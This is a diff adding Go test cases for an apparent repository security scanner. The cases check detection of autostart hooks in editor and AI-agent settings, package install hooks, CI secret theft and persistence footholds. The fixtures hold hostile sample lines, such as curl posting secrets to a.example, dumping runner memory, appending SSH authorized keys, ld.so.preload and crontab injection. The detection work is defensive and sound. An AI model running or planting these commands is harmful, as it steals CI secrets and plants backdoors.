@@ -1,0 +1,121 @@
+package signal
+
+import "testing"
+
+func TestAutostart(t *testing.T) {
+	check(t, []hits{
+		{".claude/settings.json", "autostart", []string{
+			"{ \"hooks\": { \"SessionStart\": [ { \"type\": \"command\", \"command\": \"node x.js\" } ] } }\n",
+			"{ \"apiKeyHelper\": \"./x\" }\n", "{ \"\\u0068ooks\": {} }\n",
+		}},
+		{"web/.claude/settings.json", "autostart", []string{"\"command\": \"x\"\n"}},
+		{".gemini/settings.json", "autostart", []string{"{ \"mcpServers\": { \"a\": { \"command\": \"x\" } } }\n"}},
+		{".mcp.json", "autostart", []string{"{ \"mcpServers\": {} }\n"}},
+		{".cursor/mcp.json", "autostart", []string{"\"command\": \"npx\"\n"}},
+		{".vscode/tasks.json", "autostart", []string{
+			"{ \"runOptions\": { \"runOn\": \"folderOpen\" } }\n", "{ \"runOptions\": { \"runOn\": \"folder\\u004fpen\" } }\n",
+		}},
+		{".vscode/settings.json", "autostart", []string{
+			"\"task.allowAutomaticTasks\": \"on\"\n", "\"python.defaultInterpreterPath\": \"tools/python\"\n",
+			"\"terminal.integrated.profiles.linux\": {}\n",
+		}},
+		{".devcontainer/devcontainer.json", "autostart", []string{
+			"\"postCreateCommand\": \"./x.sh\"\n", "\"initializeCommand\": \"npm install && x\"\n",
+		}},
+		{".devcontainer/a/devcontainer.json", "autostart", []string{"\"postCreateCommand\": \"./x.sh\"\n"}},
+		{".envrc", "autostart", []string{"eval \"$(x)\"\n"}},
+		{".nvim.lua", "autostart", []string{"vim.fn.system('x')\n"}},
+		{".dir-locals.el", "autostart", []string{"((nil . ((eval . (shell-command \"x\")))))\n"}},
+		{"mise.toml", "autostart", []string{"[hooks]\nenter = 'x'\n"}},
+		{".npmrc", "autostart", []string{"script-shell=./x\n", "node-options=--require ./x.js\n"}},
+		{".claude/settings.json", "", []string{"{ \"permissions\": { \"allow\": [ \"Bash(npm test)\" ] } }\n"}},
+		{".vscode/tasks.json", "", []string{"{ \"tasks\": [ { \"label\": \"build\", \"command\": \"make\" } ] }\n"}},
+		{".vscode/settings.json", "", []string{
+			"\"editor.formatOnSave\": true\n", "\"python.defaultInterpreterPath\": \".venv/bin/python\"\n",
+			"\"files.eol\": \"\\n\"\n",
+		}},
+		{".devcontainer/devcontainer.json", "", []string{"\"postCreateCommand\": \"npm install\"\n", "\"image\": \"x\"\n"}},
+		{".envrc", "", []string{"use flake\nexport A=1\nPATH_add bin\n"}},
+		{".npmrc", "", []string{"save-exact=true\n"}},
+		{"tests/fixtures/.vscode/tasks.json", "", []string{"\"runOn\": \"folderOpen\"\n"}},
+		{"src/mcp.json", "", []string{"\"command\": \"x\"\n"}},
+		{"settings.json", "", []string{"\"command\": \"x\"\n"}},
+	})
+}
+
+func TestInstallHook(t *testing.T) {
+	check(t, []hits{
+		{"package.json", "install-hook", []string{
+			"  \"preinstall\": \"node x.js\",\n", "  \"postinstall\": \"node x.js\"\n",
+			"{\"scripts\":{\"test\":\"a\",\"install\":\"b\"}}\n",
+			"  \"post\\u0069nstall\": \"x\"\n", "  \"postinstall\":\n    \"x\"\n",
+			"  \"prepare\": \"husky install && node x.js\",\n",
+			"  \"prepack\": \"node x.js\"\n", "  \"preprepare\": \"x\"\n", "  \"postinstall\": \"npm run build\"\n",
+		}},
+		{"packages/a/package.json", "install-hook", []string{"  \"postinstall\": \"node x.js\"\n"}},
+		{"composer.json", "install-hook", []string{
+			"  \"post-install-cmd\": \"php x.php\"\n",
+			"  \"post-install-cmd\": [\n    \"@php artisan a\",\n    \"php x.php\"\n  ]\n",
+			"  \"post-update-cmd\": [\"@php a | sh\"]\n",
+		}},
+		{"setup.py", "install-hook", []string{
+			"class Custom(install):\n", "class Custom(setuptools.command.develop.develop):\n",
+			"    cmdclass={'install': Custom},\n",
+			"    cmdclass={\"egg_info\": Custom},\n",
+		}},
+		{"package.json", "", []string{
+			"  \"prepare\": \"husky install\",\n", "  \"prepare\": \"npm run build\"\n", "  \"prepack\": \"tsc\"\n",
+			"  \"test\": \"node x.js\"\n",
+			"  \"postinstall\": \"patch-package\"\n", "  \"install\": true\n", "  \"files\": [\"install\"]\n",
+			"  \"reinstall\": \"x\"\n",
+		}},
+		{"composer.json", "", []string{
+			"  \"post-autoload-dump\": [\n    \"App\\\\Scripts::after\",\n    \"@php artisan package:discover --ansi\"\n  ],\n",
+			"  \"name\": \"a/b\"\n", "  \"require\": [\n    \"php x.php\"\n  ]\n",
+		}},
+		{"setup.py", "", []string{
+			"class Custom(build_ext):\n", "    cmdclass={'build_ext': Custom},\n",
+			"    install_requires=['a'],\n",
+		}},
+		{"examples/a/package.json", "", []string{"  \"postinstall\": \"node x.js\"\n"}},
+		{"a.json", "", []string{"  \"postinstall\": \"node x.js\"\n"}},
+	})
+}
+
+func TestWorkflowGrab(t *testing.T) {
+	check(t, []hits{
+		{".github/workflows/a.yml", "workflow-grab", []string{
+			"env:\n  A: ${{ toJSON(secrets) }}\nrun: curl -d \"$A\" https://a.example\n",
+			"env:\n  A: ${{ toJson( secrets ) }}\nrun: echo \"$A\" | base64\n",
+			"run: curl -d \"x=${{ secrets.TOKEN }}\" https://a.example\n",
+			"run: |\n  curl -X POST \\\n    --data-binary \"${{ secrets.TOKEN }}\" \\\n    https://a.example\n",
+			"run: printenv | base64 -w0\n",
+			"run: env | curl -T - https://a.example\n",
+			"run: echo \"$A\" | base64 -w 0 | base64 -w 0\n",
+			"run: pid=$(pgrep Runner.Worker); sudo cat /proc/$pid/mem | x\n",
+		}},
+		{"action.yml", "workflow-grab", []string{"run: printenv | base64 -w0\n"}},
+		{".github/workflows/a.yml", "", []string{
+			"run: echo \"${{ secrets.KEY }}\" | base64 -d > key.p12\n",
+			"run: curl -H \"Authorization: Bearer ${{ secrets.TOKEN }}\" -d '{}' https://a.example\n",
+			"run: curl -d '{}' -H \"Authorization: Bearer ${{ secrets.TOKEN }}\" https://a.example\n",
+			"run: curl -d \"a=${{ secrets.TOKEN }}\" https://api.github.com/x\n",
+			"permissions:\n  contents: write\nrun: make\n",
+			"run: env | sort\n",
+			"env:\n  A: ${{ toJSON(matrix) }}\n",
+		}},
+		{"docs/a.yml", "", []string{"run: printenv | base64 -w0\n"}},
+	})
+}
+
+func TestFoothold(t *testing.T) {
+	check(t, []hits{
+		{"tools/a.sh", "foothold", []string{
+			"echo \"$KEY\" >> ~/.ssh/authorized_keys\n", "echo /lib/x.so > /etc/ld.so.preload\n",
+			"(crontab -l; echo x) | crontab -\n",
+			"./config.sh --url https://github.com/a --token x\n", "git config --global core.fsmonitor ./x\n",
+		}},
+		{"tools/a.sh", "", []string{"cat ~/.ssh/authorized_keys\n", "# crontab - | x\n", "git config core.autocrlf false\n"}},
+		{"doc/a.md", "", []string{"echo \"$KEY\" >> ~/.ssh/authorized_keys\n"}},
+	})
+}
